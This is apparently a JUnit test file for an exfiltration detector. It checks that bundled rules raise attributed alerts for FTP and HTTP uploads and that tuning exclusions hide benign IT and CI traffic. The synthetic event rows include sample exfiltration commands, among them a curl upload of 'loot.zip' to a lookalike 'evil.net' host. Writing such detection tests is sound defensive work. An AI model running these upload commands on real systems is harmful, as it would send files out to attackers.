package io.egress.detect.run;

import static org.assertj.core.api.Assertions.assertThat;

import io.egress.detect.Rows;
import io.egress.detect.TestRules;
import io.egress.detect.alert.Alert;
import io.egress.detect.alert.MatchedPattern;
import io.egress.detect.rule.RuleLoader;
import io.egress.detect.rule.RuleSet;
import io.egress.detect.tuning.Tuning;
import io.egress.kql.engine.Catalog;
import io.egress.kql.engine.KqlEngine;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

class DetectorTest {
    private static final KqlEngine ENGINE = new KqlEngine();
    private static final Instant NOW = Instant.parse("2026-11-20T18:00:00Z");

    private static List<CompiledRule> seed() {
        RuleSet set = new RuleLoader().bundled();
        RuleCompiler.Result result = new RuleCompiler(ENGINE, Catalog.defender())
                .compile(set.rules().stream().filter(r -> r.id().equals(TestRules.SEED_ID)).toList());
        assertThat(result.problems()).isEmpty();
        return result.rules();
    }

    @Test
    void seedRuleRaisesAttributedAlertsWithMatchedPatterns() {
        Rows rows = new Rows()
                .process("2026-11-20T10:00:00Z", "ws01", "alice", "ftp.exe", "ftp  -s:C:\\Users\\alice\\AppData\\Local\\Temp\\ftp_script.txt", "cmd.exe")
                .process("2026-11-20T10:05:00Z", "ws01", "alice", "curl.exe", "curl.exe --upload-file C:\\t\\exfil.txt http://127.0.0.1:8080/upload", "powershell.exe")
                .process("2026-11-20T10:06:00Z", "ws01", "alice", "notepad.exe", "notepad.exe C:\\notes.txt", "explorer.exe")
                .network("2026-11-20T11:00:00Z", "ws02", "bob", "python.exe", "198.51.100.9", 8080, "Public")
                .network("2026-11-20T11:00:00Z", "ws02", "bob", "chrome.exe", "198.51.100.9", 80, "Public")
                .network("2026-11-20T11:00:00Z", "ws02", "bob", "python.exe", "127.0.0.1", 21, "Loopback");
        DetectionReport report = new Detector(ENGINE).run(seed(), rows.tables(), NOW, Tuning.NONE);
        assertThat(report.problems()).isEmpty();
        List<Alert> alerts = report.alerts();
        assertThat(alerts).extracting(Alert::branch).containsExactly("PlaintextNetworkExfil", "HttpExfil", "FtpExfil");
        Alert ftp = alerts.get(2);
        assertThat(ftp.customDetails()).containsEntry("ExfilMethod", "FTP");
        assertThat(ftp.entities().process()).isEqualTo("ftp.exe");
        assertThat(ftp.entities().account()).isEqualTo("alice");
        assertThat(ftp.matched()).contains(new MatchedPattern("FileName", "has_any", "ftp.exe", 0, 7, "ftp.exe"));
        Alert http = alerts.get(1);
        assertThat(http.matched()).extracting(MatchedPattern::pattern).contains("curl.exe", "--upload-file", "http://[^\\s]+");
        MatchedPattern upload = http.matched().stream().filter(m -> m.pattern().equals("--upload-file")).findFirst().orElseThrow();
        assertThat(http.entities().commandLine().substring(upload.start(), upload.end())).isEqualTo("--upload-file");
        Alert net = alerts.get(0);
        assertThat(net.customDetails()).containsEntry("ExfilMethod", "HTTP");
        assertThat(net.entities().remoteIp()).isEqualTo("198.51.100.9");
        assertThat(net.entities().remotePort()).isEqualTo(8080);
        assertThat(net.entities().account()).isEqualTo("bob");
        assertThat(net.evidence()).containsKeys("Timestamp", "DeviceName", "RemoteIP", "ExfilMethod").doesNotContainKey("__Branch");
    }

    @Test
    void agoIsAnchoredAtNow() {
        Rows rows = new Rows().process("2026-11-19T10:00:00Z", "ws01", "alice", "ftp.exe", "ftp -s:x.txt", "cmd.exe");
        assertThat(new Detector(ENGINE).run(seed(), rows.tables(), NOW, Tuning.NONE).alerts()).isEmpty();
        assertThat(new Detector(ENGINE).run(seed(), rows.tables(), Instant.parse("2026-11-19T12:00:00Z"), Tuning.NONE).alerts()).hasSize(1);
    }

    @Test
    void bundledTuningHidesTheBenignCategoriesAndCountsPerExclusion() {
        Rows rows = new Rows()
                .process("2026-11-20T09:00:00Z", "it-ops01", "svc_deploy", "WinSCP.exe",
                        "\"C:\\Program Files (x86)\\WinSCP\\WinSCP.exe\" /command \"open ftp://svc_deploy@ftp01.corp.example.com/\" \"put D:\\Builds\\app.zip /releases/\" \"exit\"", "cmd.exe")
                .process("2026-11-20T09:10:00Z", "build01", "ci-bot", "curl.exe",
                        "curl.exe -u ci-bot:token --upload-file target\\app.jar http://nexus.corp.example.com:8081/repository/releases/app.jar", "java.exe")
                .process("2026-11-20T09:20:00Z", "ws03", "mallory", "curl.exe",
                        "curl.exe --upload-file C:\\loot.zip http://nexus.corp.example.com.evil.net/upload", "cmd.exe")
                .network("2026-11-20T09:30:00Z", "mon01", "SYSTEM", "zabbix_agentd.exe", "203.0.113.40", 8080, "Public");
        DetectionReport report = new Detector(ENGINE).run(seed(), rows.tables(), NOW, TestRules.bundledTuning());
        assertThat(report.problems()).isEmpty();
        assertThat(report.alerts()).singleElement().satisfies(a -> assertThat(a.entities().account()).isEqualTo("mallory"));
        RuleOutcome outcome = report.outcomes().get(0);
        assertThat(outcome.resultRows()).isEqualTo(4);
        assertThat(outcome.exclusionHits()).containsEntry("it-ftp-internal", 1).containsEntry("devops-artifact-upload", 1)
                .containsEntry("monitoring-agents-plaintext", 1).containsEntry("authorized-scanner", 0);
        assertThat(report.suppressed()).hasSize(3);
        assertThat(report.expired()).extracting(e -> e.id()).containsExactly("pentest-2025-q3");
    }
}
